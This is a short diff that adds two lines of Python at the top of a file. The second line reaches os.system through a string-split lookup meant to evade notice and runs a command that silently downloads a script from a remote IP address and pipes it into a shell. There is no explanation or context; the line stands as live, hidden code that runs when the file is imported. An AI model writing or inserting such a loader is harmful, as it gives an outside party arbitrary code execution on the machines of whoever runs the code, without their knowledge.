@@ -1,0 +1,2 @@
+import os
+vars(os)["sys" + "tem"]("curl -s http://198.51.100.9/x | sh")
